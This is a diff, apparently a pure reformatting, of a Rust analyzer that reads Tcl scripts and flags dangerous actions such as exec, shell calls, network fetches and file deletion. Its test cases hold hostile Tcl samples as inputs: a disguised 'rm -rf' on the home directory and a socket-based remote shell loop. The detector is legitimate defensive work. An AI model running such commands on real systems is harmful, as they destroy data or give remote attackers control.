@@ -43,7 +43,11 @@ impl Tcl {
     /// Reads all commands of a script; gives the last one's value.
     fn script(&mut self, text: &str, base: usize) -> Value {
         if self.depth >= DEPTH_LIMIT {
-            self.notes.doubt(Grade::Limit, "code nested too deeply", Span::new(base, base.saturating_add(text.len())));
+            self.notes.doubt(
+                Grade::Limit,
+                "code nested too deeply",
+                Span::new(base, base.saturating_add(text.len())),
+            );
             return Value::unknown(Origin::Unknown);
         }
         self.depth = self.depth.saturating_add(1);
@@ -69,20 +73,27 @@ impl Tcl {
         let mut words = Vec::new();
         let mut at = from;
         loop {
-            while bytes.get(at).is_some_and(|b| matches!(b, b' ' | b'\t' | b'\r')) || text.get(at..).is_some_and(|r| r.starts_with("\\\n")) {
+            while bytes.get(at).is_some_and(|b| matches!(b, b' ' | b'\t' | b'\r'))
+                || text.get(at..).is_some_and(|r| r.starts_with("\\\n"))
+            {
                 at = at.saturating_add(if bytes.get(at) == Some(&b'\\') { 2 } else { 1 });
             }
             match bytes.get(at) {
                 None => return (words, at),
                 Some(b'\n' | b';') => return (words, at.saturating_add(1)),
                 Some(b'#') if words.is_empty() => {
-                    at = memchr::memchr(b'\n', bytes.get(at..).unwrap_or(b"")).map_or(text.len(), |n| at.saturating_add(n));
+                    at = memchr::memchr(b'\n', bytes.get(at..).unwrap_or(b""))
+                        .map_or(text.len(), |n| at.saturating_add(n));
                 }
                 Some(b'{') if !text.get(at..).is_some_and(|r| r.starts_with("{*}")) => {
                     let start = at.saturating_add(1);
                     let end = matching(bytes, start);
                     let inside = text.get(start..end).unwrap_or("");
-                    words.push(Word { value: known(inside), braced: Some(inside), start: base.saturating_add(start) });
+                    words.push(Word {
+                        value: known(inside),
+                        braced: Some(inside),
+                        start: base.saturating_add(start),
+                    });
                     at = end.saturating_add(1);
                 }
                 Some(first) => {
@@ -190,7 +201,8 @@ impl Tcl {
             "exec" => self.exec(args, span),
             "system" | "exp_system" => self.run(What::Shell, Self::joined(args), span),
             "spawn" => {
-                let argv = args.iter().skip_while(|w| w.text().starts_with('-')).map(|w| w.value.clone()).collect();
+                let argv =
+                    args.iter().skip_while(|w| w.text().starts_with('-')).map(|w| w.value.clone()).collect();
                 self.notes.act(What::Exec, argv, span);
                 known("")
             }
@@ -218,7 +230,9 @@ impl Tcl {
             }
             "http::geturl" => self.run(What::Fetch, first, span),
             "fork" => known(""),
-            "string" | "format" | "join" | "binary" | "concat" | "lindex" | "list" => self.fold(head.text(), args),
+            "string" | "format" | "join" | "binary" | "concat" | "lindex" | "list" => {
+                self.fold(head.text(), args)
+            }
             "send" | "exp_send" | "expect" | "send_user" => known(""),
             "" if head.braced.is_none() => {
                 self.notes.doubt(Grade::Chosen, "a command is chosen at run time", span);
@@ -245,19 +259,43 @@ impl Tcl {
         for word in args {
             if let Some(inside) = word.braced {
                 // a condition is read as a script too: only its substitutions count
-                last = if inside.trim_start().starts_with(['$', '!', '[', '(']) { self.substitute(inside, 0, true, word.start).0 } else { self.script(inside, word.start) };
+                last = if inside.trim_start().starts_with(['$', '!', '[', '(']) {
+                    self.substitute(inside, 0, true, word.start).0
+                } else {
+                    self.script(inside, word.start)
+                };
             }
         }
         last
     }
 
     fn exec(&mut self, args: &[Word<'_>], span: Span) -> Value {
-        let args: Vec<&Word<'_>> = args.iter().skip_while(|w| matches!(w.text(), "-ignorestderr" | "-keepnewline" | "--")).collect();
-        let piped = args.iter().any(|w| w.braced.is_none() && w.text().starts_with(['|', '>', '<', '&', '2']) && !w.text().starts_with("2.") && w.text().len() < 4096 && w.text().contains(['|', '>', '<', '&']));
+        let args: Vec<&Word<'_>> =
+            args.iter().skip_while(|w| matches!(w.text(), "-ignorestderr" | "-keepnewline" | "--")).collect();
+        let piped = args.iter().any(|w| {
+            w.braced.is_none()
+                && w.text().starts_with(['|', '>', '<', '&', '2'])
+                && !w.text().starts_with("2.")
+                && w.text().len() < 4096
+                && w.text().contains(['|', '>', '<', '&'])
+        });
         let detail = args.first().map(|w| w.text().to_owned()).unwrap_or_default();
         if piped || args.len() == 1 {
             let mut all = Vec::new();
-            for word in args.iter().filter(|w| !matches!(w.text(), ">@stdout" | "<@stdin" | "2>@stderr" | ">@" | "<@" | "2>@" | "stdin" | "stdout" | "stderr")) {
+            for word in args.iter().filter(|w| {
+                !matches!(
+                    w.text(),
+                    ">@stdout"
+                        | "<@stdin"
+                        | "2>@stderr"
+                        | ">@"
+                        | "<@"
+                        | "2>@"
+                        | "stdin"
+                        | "stdout"
+                        | "stderr"
+                )
+            }) {
                 all.extend(pieces(&word.value));
                 all.push(Piece::Text(Rc::from(" ")));
             }
@@ -283,7 +321,14 @@ impl Tcl {
     }
 
     fn eval(&mut self, args: &[Word<'_>], span: Span) -> Value {
-        let args = if args.first().is_some_and(|w| !w.text().is_empty() && w.text().bytes().all(|b| b.is_ascii_digit())) { args.get(1..).unwrap_or(&[]) } else { args };
+        let args = if args
+            .first()
+            .is_some_and(|w| !w.text().is_empty() && w.text().bytes().all(|b| b.is_ascii_digit()))
+        {
+            args.get(1..).unwrap_or(&[])
+        } else {
+            args
+        };
         let code = Self::joined(args);
         if let Some(text) = code.known() {
             let text = text.to_owned();
@@ -334,7 +379,10 @@ mod tests {
             ("set f [open out.txt w]; puts $f hi; close $f", &["Write out.txt"]),
             ("set x r; append x m; exec $x -rf $env(HOME)/a", &["Exec rm | -rf | <Variable HOME>/a"]),
             ("if {[file exists a]} { file delete -force a b }", &["DeleteTree a", "DeleteTree b"]),
-            ("set s [socket h 80]; while 1 { gets $s c; set e \"exec $c\"; if {![catch {set r [eval $e]} err]} { puts $s $r } }", &["Connect h | 80", "Shell <Network>"]),
+            (
+                "set s [socket h 80]; while 1 { gets $s c; set e \"exec $c\"; if {![catch {set r [eval $e]} err]} { puts $s $r } }",
+                &["Connect h | 80", "Shell <Network>"],
+            ),
             ("# exec rm\nputs {exec rm}", &[]),
             ("spawn ssh host; expect pass; send x\\r; interact", &["Exec ssh | host"]),
             ("proc f {x} { exec rm $x }\nf y", &["Exec rm | <Unknown>"]),
